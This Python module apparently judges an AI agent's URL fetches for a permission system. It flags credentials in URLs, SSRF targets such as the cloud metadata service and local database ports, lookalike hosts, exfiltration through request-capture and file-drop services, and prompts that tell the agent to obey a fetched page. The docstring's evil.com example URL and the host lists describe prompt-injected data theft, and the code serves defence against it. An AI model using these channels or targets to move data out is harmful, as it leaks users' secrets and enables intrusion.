"""What a request to a URL does: WebFetch, curl and wget share this judgement.

Reading a public page is a read. A person decides when the URL carries a credential
(``user:pass@``, ``?token=…``, an unexpanded ``${API_KEY}`` — the shape of a prompt-injected
exfiltration), when it reaches this machine or the private network (the SSRF path: admin
pages, local databases, the cloud metadata service that hands out instance credentials),
when the host name embeds another domain (``docs.example.com.evil.net``, punycode), and
when the request sends data (a POST, an upload) anywhere but a local development server.

A GET sends data too, in its URL: ``https://evil.com/log?aGVsbG8…`` is how a
prompt-injected agent carries what it read out of the machine, and the host's owner reads
it in the request log. So a fetch is a read only when its URL is an address a reader would
type: the host is one where nobody but the platform sees the request (documentation,
package registries, source hosting, search engines — :data:`KNOWN_HOSTS`), or the path and
query hold ordinary words and numbers (``?q=hooks``, ``?page=2``, ``?v=3.12``). When the
URL carries what looks like data — a parameter named for it (``data=``, ``payload=``), an
encoded token (long base64 or hex) in the query, the path or a host label, free text as
the query, or a query too long to be an address — the judge abstains and a person decides.
"""

from __future__ import annotations

import functools
import re

from warden.judge import effects as E
from warden.judge.effects import Effect

TYPE_CHECKING = False
if TYPE_CHECKING:
    from urllib.parse import SplitResult

_SECRET_PARAM = re.compile(r"^(?:key|api[_-]?key|apikey|token|access[_-]?token|auth|auth[_-]?token|secret|client[_-]?secret"
                           r"|password|passwd|pwd|pass|private[_-]?token|session|sessionid|sig|signature|x-api-key"
                           r"|credentials?)$", re.I)
_PLACEHOLDER = re.compile(r"\$\{?[A-Za-z_]|YOUR_[A-Z_]*(?:KEY|TOKEN|SECRET)|<[^>]*(?:key|token|secret)[^>]*>", re.I)
# a name followed by one of these in the middle of a host ("github.com.evil.net") imitates
# another domain; words that are also ordinary subdomains (dev, app, ai) and country codes
# (api.eu.example.com) are left out
_TLDS = frozenset("com org net io gov edu".split())
_PRIVATE_SUFFIXES = (".local", ".internal", ".lan", ".home", ".corp", ".intranet", ".localdomain", ".home.arpa",
                     ".localhost")
_METADATA_HOSTS = frozenset({"169.254.169.254", "metadata.google.internal", "metadata", "100.100.100.200",
                             "fd00:ec2::254", "169.254.170.2"})
# public names that resolve to this machine or to an address written in the name
# (wildcard DNS: 10.0.0.1.nip.io), or alternate between addresses (DNS rebinding)
_RESOLVES_INTERNAL = ("nip.io", "sslip.io", "xip.io", "nip.direct", "localtest.me", "lvh.me", "vcap.me", "lacolhost.com",
                      "localho.st", "fuf.me", "yoogle.com", "1u.ms", "rbndr.us", "rebind.it", "rebind.network",
                      "traefik.me", "backname.io", "sslip.net", "local.gd")
_EMBEDDED_IP = re.compile(r"(?<![0-9])(\d{1,3})[.-](\d{1,3})[.-](\d{1,3})[.-](\d{1,3})(?![0-9])")
# link shorteners: the destination (internal, hostile) is not in the URL
_SHORTENERS = frozenset("""bit.ly bitly.com is.gd v.gd t.co tinyurl.com goo.gl ow.ly buff.ly rebrand.ly cutt.ly
    shorturl.at rb.gy t.ly s.id tiny.cc lnkd.in bl.ink short.io soo.gd qr.ae x.co tiny.one shorturl.com 2.gy
    urlzs.com clck.ru u.to git.io aka.ms trib.al dlvr.it ift.tt fb.me youtu.be amzn.to""".split())
# request-capture services: whoever made the endpoint reads each request in full, the
# exfiltration channel of prompt-injected agents and of worms
_CAPTURE_HOSTS = ("webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "ngrok-free.app", "ngrok-free.dev",
                  "ngrok.io", "ngrok.app", "interact.sh", "oast.fun", "oast.pro", "oast.live", "oast.site",
                  "oast.online", "oast.me", "burpcollaborator.net", "oastify.com", "beeceptor.com", "requestcatcher.com",
                  "hookbin.com", "postb.in", "canarytokens.com", "dnslog.cn", "ceye.io", "pipedream.com",
                  "webhook.cool", "requestinspector.com", "mockbin.org", "trycloudflare.com", "serveo.net",
                  "loca.lt", "localhost.run")
# words in a host name that say it records the requests it gets
_CAPTURE_WORD = (r"requestbin|request-bin|reqbin|hookbin|webhook-?test|webhookinbox|interactsh|burpcollab"
                 r"|dnslog|canarytoken|requestcatcher|postbin|mockbin|oastify")  # compiled on first use
# file-drop services: a file sent there is handed to anyone holding the link, no account
_DROP_HOSTS = ("transfer.sh", "file.io", "0x0.st", "temp.sh", "bashupload.com", "oshi.at", "tmpfiles.org", "uguu.se",
               "catbox.moe", "gofile.io", "pixeldrain.com", "keep.sh", "filebin.net", "termbin.com", "sendspace.com",
               "wetransfer.com", "we.tl", "anonfiles.com", "ufile.io", "file.coffee", "x0.at", "tmpfiles.com",
               "filetransfer.io", "send.vis.ee", "dropmefiles.com", "fileditch.com")
# a path or a prompt that says the request puts a file there
_UPLOAD = r"\b(?:upload(?:s|ed|ing)?|put|send|share|post|drop)\b"  # compiled on first use
# a prompt that opens with an order to carry something out: "upload the ipa", "please post this", "submit it"
# (an HTTP method that writes, as the prompt's first word, is such an order too: "PUT the .nupkg with the API key header")
_ORDERS_SEND = (r"\s*(?:(?:please|now|then|just)\s+)?(?:upload|post|submit|send|publish|push|share|(?-i:PUT|POST|PATCH|DELETE))\b"
                r"(?!\s+(?:request|method|body)\b)")
# a prompt that hands the page the agent's next steps (an order, not a question about them): what it
# fetched becomes its instructions
_OBEY = (r"(?:^|[.!?;:,]\s*|\b(?:and|then|please|just|now)\s+)(?:follow|obey|execute|carry\s+out|do|perform|run|apply|comply\s+with)\b"
         r"(?:\s+(?:all|every|each|exactly|whatever|the|these|those|its|their|any|what))*"
         r"\s+(?:instructions?|steps|commands|directions|orders|it\s+says|they\s+say|(?:this|the|these)\s+\w+\s+says?"
         r"|(?:\w+\s+)?(?:notes?|page|paste|gist|file|document|readme)\s+says?|is\s+written|tells?\s+you)\b")
# query parameters that name where a redirector sends the request
_REDIRECT_PARAM = re.compile(r"^(?:url|uri|u|to|target|dest|destination|redirect|redirect_uri|redirect_url|next|goto"
                             r"|return|returnto|return_to|continue|link|out|r)$", re.I)
# services that listen on this machine and hold data or secrets, by their usual port;
# a development server uses none of them
_SERVICE_PORTS = {2375: "the docker engine", 2376: "the docker engine", 2379: "etcd", 2380: "etcd", 4001: "etcd",
                  6379: "redis", 5432: "postgres", 3306: "mysql", 27017: "mongodb", 9200: "elasticsearch",
                  8500: "consul", 8200: "vault", 10250: "the kubelet", 10255: "the kubelet", 6443: "kubernetes",
                  8001: "a kubernetes proxy", 11211: "memcached", 5984: "couchdb", 15672: "rabbitmq",
                  7474: "neo4j", 8086: "influxdb", 9092: "kafka", 2181: "zookeeper", 9042: "cassandra",
                  8983: "solr", 5601: "kibana", 9093: "alertmanager", 4646: "nomad", 8300: "consul"}
# domains (and their subdomains) where a request is seen only by the platform, not by
# whoever wrote the page: documentation, package registries, source hosting, search
KNOWN_HOSTS = frozenset("""
    github.com githubusercontent.com github.io githubassets.com github.blog gitlab.com bitbucket.org sourceforge.net codeberg.org
    pypi.org pythonhosted.org python.org readthedocs.io readthedocs.org npmjs.com npmjs.org yarnpkg.com unpkg.com
    jsdelivr.net jsr.io deno.land deno.com crates.io docs.rs rust-lang.org go.dev golang.org rubygems.org
    ruby-doc.org packagist.org php.net nuget.org maven.org mvnrepository.com sonatype.com gradle.org hackage.haskell.org
    hex.pm hexdocs.pm pub.dev cran.r-project.org metacpan.org docker.com docker.io quay.io kubernetes.io helm.sh
    nodejs.org typescriptlang.org react.dev reactjs.org vuejs.org svelte.dev angular.dev angular.io nextjs.org
    tailwindcss.com mozilla.org w3.org whatwg.org ietf.org rfc-editor.org wikipedia.org wikimedia.org
    stackoverflow.com stackexchange.com superuser.com serverfault.com askubuntu.com
    anthropic.com claude.com claude.ai microsoft.com visualstudio.com apple.com android.com cloud.google.com
    developers.google.com google.com bing.com duckduckgo.com amazon.com aws.amazon.com
""".split())
# parameter names that say what they carry is data, not an address
_DATA_PARAM = re.compile(r"^(?:data|payload|blob|dump|b64|base64|encoded|exfil|content|contents|body|env|file|files"
                         r"|output|stdout|stderr|log|logs|history|clipboard|cookies?)$", re.I)
_TOKEN_RUN = re.compile(r"[A-Za-z0-9+/=_-]{24,}")
_HEX_RUN = re.compile(r"[0-9a-fA-F]{32,}")
_FREE_TEXT, _LONG_QUERY = 12, 256  # a bare query longer than a flag; values longer than an address


class Url:
    """A URL taken apart: ``place`` is ``public``, ``loopback``, ``private``,
    ``metadata``, ``lookalike`` or ``invalid``; ``credential`` names what in it looks like
    a secret ("" for none). ``disguised`` and ``shortened`` hosts hide where the request
    goes; ``redirect`` bounces it to this machine or the private network."""

    __slots__ = ("text", "scheme", "host", "place", "credential", "data", "port", "capture", "statement")

    def __init__(self, text: str, scheme: str, host: str, place: str, credential: str, data: str = "",
                 port: int | None = None):
        self.text, self.scheme, self.host, self.place, self.credential = text, scheme, host, place, credential
        self.data = data  # what in it looks like data being sent ("" for none)
        self.port = port
        self.capture = False  # a request-capture service: its owner reads every request
        self.statement = ""  # a database statement a query parameter carries (``_statement``)


def examine(url: str, depth: int = 0) -> Url:
    from urllib.parse import parse_qsl, urlsplit

    text = url.strip()
    if "://" not in text:
        text = "http://" + text  # curl and wget take bare hosts
    try:
        parts = urlsplit(text)
        host = (parts.hostname or "").rstrip(".").lower()
        userinfo = parts.username is not None or parts.password is not None
    except ValueError:
        return Url(url, "", "", "invalid", "")
    from urllib.parse import unquote

    from warden.judge.leaks import disclosed

    credential = ""
    pairs = parse_qsl(parts.query, keep_blank_values=True)
    if userinfo:
        credential = "credentials in the URL"
    elif _PLACEHOLDER.search(url):
        credential = "a secret placeholder in the URL"
    elif said := disclosed(unquote(url)):
        credential = f"{said} in the URL"
    else:
        for name, _value in pairs:
            if _SECRET_PARAM.match(name):
                credential = f"a {name}= parameter in the URL"
                break
    scheme = parts.scheme.lower()
    if scheme not in ("http", "https") or not host:
        return Url(url, scheme, host, "invalid", credential)
    try:
        port = parts.port
    except ValueError:
        port = None
    place = host_place(host)
    if place == "public":
        place = _bounced(parts, pairs) or place
    data = "" if known(host) else _data(host, parts, pairs)
    if capture(host) and parts.query:
        data = "a query"
    inner = _inner(pairs, depth)
    if inner is not None:  # an open redirect: the request ends where the inner URL says
        credential = credential or (inner.credential and f"{inner.credential}, for {inner.host}")
        if place == "public" and inner.place in ("lookalike", "disguised", "shortened"):
            place = inner.place
        data = data or (inner.data and f"{inner.data} (for {inner.host})")
    u = Url(url, scheme, host, place, credential, data, port)
    u.capture = capture(host) or inner is not None and inner.capture
    u.statement = _statement(host, pairs)
    return u


def capture(host: str) -> bool:
    """A request-capture service: a known one, or a host named for one (``requestbin.xyz.cn``)."""
    return _under(host, _CAPTURE_HOSTS) or bool(re.search(_CAPTURE_WORD, host))


def _inner(pairs: list[tuple[str, str]], depth: int) -> Url | None:
    """The URL a query parameter carries (``google.com/url?q=https://…``, ``?next=http://…``)."""
    for _name, value in pairs:
        if depth < 3 and re.match(r"(?i)https?://", value.strip()):
            return examine(value.strip(), depth + 1)
    return None


def _bounced(parts: SplitResult, pairs: list[tuple[str, str]]) -> str:
    """``redirect`` when the URL carries another URL (a redirector's target) that reaches
    this machine, the private network or the metadata service; "" otherwise."""
    from urllib.parse import unquote

    targets = [m.group(1) for m in re.finditer(r"(?:https?:)?//([^/?#&\s]+)", unquote(parts.path + "?" + parts.query))]
    targets += [v.split("/", 1)[0] for k, v in pairs if _REDIRECT_PARAM.match(k) and "//" not in v
                and re.fullmatch(r"[\w-]*(?:\.[\w-]+)+(?::\d+)?(?:/.*)?|localhost(?::\d+)?(?:/.*)?", v)]
    for t in targets:
        host = t.rsplit("@", 1)[-1].lower()
        host = host.split("]")[0] + "]" if host.startswith("[") else host.split(":")[0]
        if host and host_place(host.rstrip(".")) in ("loopback", "private", "metadata"):
            return "redirect"
    return ""


def known(host: str) -> bool:
    """A documentation, package, source or search host (see :data:`KNOWN_HOSTS`)."""
    labels = host.split(".")
    return any(".".join(labels[i:]) in KNOWN_HOSTS for i in range(len(labels) - 1))


def _data(host: str, parts: SplitResult, pairs: list[tuple[str, str]]) -> str:
    """What in a URL looks like data being sent rather than an address ("" for nothing)."""
    from urllib.parse import unquote

    for name, value in pairs:
        if value and _DATA_PARAM.match(name):
            return f"a {name}= parameter"
        if _encoded(value):
            return "an encoded value in the query"
    if any(len(unquote(p)) > _FREE_TEXT for p in parts.query.split("&") if "=" not in p):
        return "free text as the query"
    if sum(len(v) for _, v in pairs) > _LONG_QUERY:
        return "a long query"
    if any(_encoded(unquote(seg)) for seg in parts.path.split("/")):
        return "an encoded path segment"
    if any(_encoded(label, anycase=True) for label in host.split(".")):
        return "an encoded host name"  # a DNS lookup carries it too
    return ""


def _encoded(text: str, anycase: bool = False) -> bool:
    """A long token of base64 (letters of both cases and digits, no word breaks) or hex:
    the shape of encoded bytes, not of a slug, a version or a search. ``anycase``: a host
    name, whose case is lost (base32 and the like)."""
    classes = (str.isalpha, str.isdigit) if anycase else (str.isupper, str.islower, str.isdigit)
    for run in _TOKEN_RUN.findall(text):
        if _HEX_RUN.search(run):
            return True
        if any(sum(f(c) for c in run) < 2 for f in classes):
            continue
        if max(len(w) for w in re.split(r"[-_]", run)) >= 20:
            return True
    return False


def host_place(host: str) -> str:
    import ipaddress

    if host in _METADATA_HOSTS:
        return "metadata"
    if host == "localhost" or host.endswith(".localhost"):
        return "loopback"
    if host.endswith(_PRIVATE_SUFFIXES) or "." not in host and ":" not in host:
        return "private"
    if re.fullmatch(r"[0-9.]+|0x[0-9a-f.x]+|\[?[0-9a-f:.]+\]?", host):
        try:
            ip = ipaddress.ip_address(host.strip("[]"))
        except ValueError:
            return "private"  # 2130706433, 0x7f.1, 0177.0.0.1: encodings of local addresses
        if ip.is_loopback or ip.is_unspecified:
            return "loopback"
        if ip.is_private or ip.is_link_local or getattr(ip, "is_site_local", False) or ip.is_reserved \
                or ip in ipaddress.ip_network("100.64.0.0/10"):
            return "private"
        return "public"
    if re.search(r"[^a-z0-9.\-_]", host):
        return "disguised"  # `evil.example%00.google.com`: a suffix check and the resolver disagree
    if any(ip_place(m) in ("metadata",) for m in _EMBEDDED_IP.findall(host)):
        return "metadata"
    if _under(host, _RESOLVES_INTERNAL):
        return "private"
    if any(ip_place(m) in ("loopback", "private") for m in _EMBEDDED_IP.findall(host)) and not known(host):
        return "private"
    if host in _SHORTENERS:
        return "shortened"
    labels = host.split(".")
    if any(label.startswith("xn--") for label in labels):
        return "lookalike"
    if any(label in _TLDS for label in labels[1:-2]):
        return "lookalike"
    if not known(host) and _imitates(labels):
        return "lookalike"
    return "public"


def ip_place(octets: tuple[str, ...]) -> str:
    """The place of an IPv4 address written inside a host name."""
    if any(int(o) > 255 for o in octets):
        return "public"
    return host_place(".".join(str(int(o)) for o in octets))


def _under(host: str, domains: tuple[str, ...]) -> bool:
    return any(host == d or host.endswith("." + d) for d in domains)


# the names of the known hosts' owners ("microsoft" of learn.microsoft.com), long enough to imitate
_BRANDS = frozenset(h.split(".")[-2] for h in KNOWN_HOSTS if len(h.split(".")[-2]) >= 5)


def _imitates(labels: list[str]) -> bool:
    """A known host's owner name under another domain (``npmjs.help``), or one letter
    away from it (``micrsoft.com``)."""
    return len(labels) >= 2 and _imitated(labels[-2])


@functools.lru_cache(maxsize=256)
def _imitated(name: str) -> bool:
    return name in _BRANDS or any(abs(len(name) - len(b)) <= 1 and _one_edit(name, b) for b in _BRANDS)


def _one_edit(a: str, b: str) -> bool:
    """Whether ``a`` and ``b`` differ by exactly one letter added, dropped, changed or swapped."""
    if a == b:
        return False
    if len(a) == len(b):
        diff = [i for i in range(len(a)) if a[i] != b[i]]
        return len(diff) == 1 or len(diff) == 2 and diff[1] == diff[0] + 1 and a[diff[0]] == b[diff[1]] \
            and a[diff[1]] == b[diff[0]]
    short, long_ = (a, b) if len(a) < len(b) else (b, a)
    i = next((k for k in range(len(short)) if short[k] != long_[k]), len(short))
    return short[i:] == long_[i + 1:]


# a database's HTTP interface runs the statement a query parameter carries (ClickHouse's `?query=DROP TABLE t`)
_STATEMENT_PARAM = re.compile(r"^(?:query|sql|q|statement|stmt|command|cmd)$", re.I)
_STATEMENT = re.compile(r"^\s*(?:(?P<drop>(?:DROP|TRUNCATE)\s+(?:TABLE|DATABASE|SCHEMA|VIEW|INDEX|USER|ROLE)\b|TRUNCATE\s+[\w.`\"]+\s*(?:;|$)"
                        r"|DELETE\s+FROM\b)|ALTER\s+(?:TABLE|DATABASE|USER|ROLE)\b|INSERT\s+INTO\b|UPDATE\s+[\w.`\"]+\s+SET\b"
                        r"|CREATE\s+(?:TABLE|DATABASE|USER|ROLE)\b|GRANT\b|REVOKE\b)", re.I)


def _statement(host: str, pairs: list[tuple[str, str]]) -> str:
    """A statement that changes a database, carried by a query parameter to a host the policy does not
    know ("" for none); with ``drop:`` before it when it deletes."""
    if known(host):
        return ""
    m = next((m for name, value in pairs if _STATEMENT_PARAM.match(name) and (m := _STATEMENT.match(value))), None)
    return "" if m is None else ("drop:" if m.group("drop") else "") + m.group(0).strip()


def request(url: str, evidence: str, sends: bool = False, method: str = "GET") -> list[Effect]:
    """The effects of one request. ``sends``: the request carries data (a body, an upload)."""
    from urllib.parse import unquote_plus

    from warden.judge.leaks import personal

    u = examine(url)
    out = []
    if u.credential:
        out.append(Effect(E.CREDENTIALS, u.host or url, evidence, f"sends {u.credential}"))
    if about := personal(unquote_plus(url)):
        out.append(Effect(E.SEND, u.host or url, evidence, f"sends personal data ({about}) to {u.host or 'a host'}"))
    if u.statement:
        drops = u.statement.startswith("drop:")
        out.append(Effect(E.DELETE if drops else E.ALTER_DATA, u.host or url, evidence,
                          f"runs {u.statement.removeprefix('drop:')!r} on a database through the URL's query"))
    method = method.upper()
    changes = sends or method not in ("GET", "HEAD", "OPTIONS")
    if u.place == "metadata":
        out.append(Effect(E.CREDENTIALS, u.host, evidence, "reaches the cloud metadata service (instance credentials)"))
    elif u.place == "invalid":
        out.append(Effect(E.UNKNOWN, url, evidence, f"requests a URL the policy cannot judge ({u.scheme or 'no'} scheme)"))
    elif u.place == "lookalike":
        out.append(Effect(E.SEND, u.host, evidence, "requests a host whose name imitates another domain"))
    elif u.place in ("disguised", "shortened"):
        out.append(Effect(E.CONCEALED, u.host, evidence, "hides where the request goes behind " + (
            "a short link" if u.place == "shortened" else "escapes in the host name")))
    elif u.place == "redirect":
        out.append(Effect(E.LOCAL_NETWORK, u.host, evidence, "bounces the request to this machine or the private network"))
    elif u.place == "loopback" and u.port in _SERVICE_PORTS:
        out.append(Effect(E.CREDENTIALS, u.host, evidence, f"reaches {_SERVICE_PORTS[u.port]} on this machine, which "
                                                           "holds data or secrets"))
    elif u.place == "loopback":
        if method in ("DELETE", "PUT", "PATCH"):
            out.append(Effect(E.ALTER_DATA, u.host, evidence, f"sends {method} to a service on this machine"))
        else:
            out.append(Effect(E.BUILD_TEST, u.host, evidence, "talks to a development server on this machine"))
    elif u.place == "private":
        out.append(Effect(E.LOCAL_NETWORK, u.host, evidence, "reaches a service on the private network"))
    elif drop(u.host) and (changes or re.search(_UPLOAD, urlsplit_path(url), re.I)):
        out.append(Effect(E.SEND, u.host, evidence, "sends a file to a file-sharing host, where anyone with the link "
                                                    "can fetch it"))
    elif u.capture and (changes or u.data):
        out.append(Effect(E.SEND, u.host, evidence, "sends data to a request-capture service, whose owner reads it"))
    elif changes:
        out.append(Effect(E.SEND, u.host, evidence, f"sends data to {u.host}"))
    elif u.data:
        unknown_host = "" if known(u.host) else ", a host the policy does not know"
        out.append(Effect(E.UNKNOWN, u.host, evidence, f"puts {u.data} in a request to {u.host}{unknown_host}: it may "
                                                        "carry data out"))
    else:
        out.append(Effect(E.READ, u.host, evidence))
    return out


def drop(host: str) -> bool:
    """A file-drop service (``transfer.sh``, ``0x0.st``): what is sent there is public to the link."""
    return _under(host, _DROP_HOSTS)


def urlsplit_path(url: str) -> str:
    from urllib.parse import urlsplit

    try:
        return urlsplit(url if "://" in url else "http://" + url).path
    except ValueError:
        return ""


# an account's page of keys: a settings, account or console section, then the keys, tokens
# or API page (`/settings/tokens`, `/account/api-keys`, `/-/profile/personal_access_tokens`);
# documentation about tokens has no such section in its path
_KEYS_PAGE = (r"(?:^|/)(?:settings|account|accounts|profile|user|console|dashboard|organization|org|admin|-)"
              r"(?:/[^/]+){0,3}/(?:api|api[-_]?keys?|apikeys?|keys|tokens?|access[-_]?tokens?|personal[-_]?access[-_]?tokens?"
              r"|secrets|credentials)/?$"
              r"|(?:^|/)(?:api[-_]?keys|apikeys|personal[-_]?access[-_]?tokens)/?$")
# a prompt that asks for the key itself: copy, show, list or read out a key, token or password
_WANTS_KEY = (r"\b(?:copy|show|reveal|print|list|extract|display|return|read\s+out|give\s+me|tell\s+me)\s+"
              r"(?:me\s+)?(?:the|my|our|your|all|every|each|any)?\s*(?:[\w-]+\s+){0,2}?"
              r"(?:api[\s_-]?keys?|keys?|tokens?|secrets?|passwords?|credentials?)"
              # the key is the object (`copy the API key shown`), not a word before another (`key details`)
              r"(?=\s*(?:$|[.,;:!?)]|(?:shown|displayed|on|from|in|here|listed|values?|there)\b))")


def account_keys(u: Url, prompt: str, evidence: str) -> list[Effect]:
    """A fetch of an account's page of keys or tokens, or a prompt asking for a key shown on
    the page: the request carries no session, but what it is for is reading credentials."""
    if re.search(_KEYS_PAGE, urlsplit_path(u.text).lower()):
        return [Effect(E.CREDENTIALS, u.host, evidence, "asks for an account's page of keys or tokens")]
    if re.search(_WANTS_KEY, prompt, re.I):
        return [Effect(E.CREDENTIALS, u.host, evidence, "asks to copy or show a key or token")]
    return []


def fetch_prompt(prompt: str, u: Url, evidence: str) -> list[Effect]:
    """What a WebFetch's prompt asks of the page: to carry out what it says (its text becomes
    the agent's instructions: prompt injection by request), or to upload to a file-drop host."""
    text = prompt  # read whole: an order hidden after filler is still an order (both scans are linear)
    out = []
    if re.search(_OBEY, text, re.I):
        out.append(Effect(E.NETWORK_EXEC, u.host, evidence, "asks to carry out what the fetched page says: "
                                                            "its text becomes the agent's instructions"))
    from warden.judge.leaks import disclosed

    if said := disclosed(text):
        # the prompt goes with the page to the model that reads it, and stays in the transcript;
        # a prompt that gives a token ("fetch with Authorization: Bearer ghp_…") hands it on
        out.append(Effect(E.CREDENTIALS, u.host, evidence, f"gives {said} in the fetch's prompt"))
    if re.match(_ORDERS_SEND, text, re.I):
        # "upload the ipa", "post this to the channel": the fetch is asked to carry something out to the host
        out.append(Effect(E.SEND, u.host, evidence, f"asks the fetch to send something to {u.host or 'the host'}"))
    elif drop(u.host) and re.search(_UPLOAD, text, re.I):
        out.append(Effect(E.SEND, u.host, evidence, "sends a file to a file-sharing host, where anyone with the link "
                                                    "can fetch it"))
    return out
